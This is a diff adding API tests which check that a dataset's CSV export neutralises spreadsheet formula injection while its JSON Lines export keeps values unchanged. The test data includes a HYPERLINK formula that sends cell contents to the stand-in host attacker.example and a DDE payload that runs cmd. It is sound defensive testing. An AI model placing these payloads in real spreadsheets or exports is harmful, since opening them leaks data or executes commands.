@@ -176,6 +176,40 @@ describe('GET /datasets/{id}/records/export?format=csv', () => {
   });
 });
 
+describe('GET /datasets/{id}/records/export: cells a spreadsheet would run', () => {
+  const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+  let risky: SeededDataset;
+
+  beforeAll(async () => {
+    risky = await seedDataset(server.app.database.db, server.app.database.dialect, {
+      workspaceId: principals.workspace.id,
+      fields: [{ name: 'text', required: true }],
+      metadata: [{ name: 'score', settings: { type: 'float', min: null, max: null } }],
+    });
+    const items = formulas.map((text, i) => ({ external_id: `=row${i}`, fields: { text }, metadata: { score: -1.5 } }));
+    const res = await api.put(`/datasets/${risky.id}/records/bulk`, { items });
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+  });
+
+  it("CSV prefixes ' to every cell that starts with = + - @ tab or CR; numbers stay numbers", async () => {
+    const res = await api.get(`/datasets/${risky.id}/records/export?format=csv`);
+    expect(res.status).toBe(200);
+    const [header, ...rows] = parseCsv(res.body as string);
+    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
+    expect(column('text')).toEqual(formulas.map((text) => `'${text}`));
+    expect(column('external_id')).toEqual(formulas.map((_, i) => `'=row${i}`));
+    expect(column('metadata.score')).toEqual(formulas.map(() => '-1.5'));
+  });
+
+  it('JSON Lines keeps the values as they were written', async () => {
+    const res = await api.get(`/datasets/${risky.id}/records/export?format=jsonl`);
+    expect(res.status).toBe(200);
+    const rows = (res.body as string).trimEnd().split('\n').map((line) => JSON.parse(line));
+    expect(rows.map((row) => row.text)).toEqual(formulas);
+    expect(rows.map((row) => row.external_id)).toEqual(formulas.map((_, i) => `=row${i}`));
+  });
+});
+
 describe('GET /datasets/{id}/records/export refusals', () => {
   it('answers 422 with a detail for an unknown format, and a validation error without one', async () => {
     const res = await api.get(`/datasets/${dataset.id}/records/export?format=xlsx`);
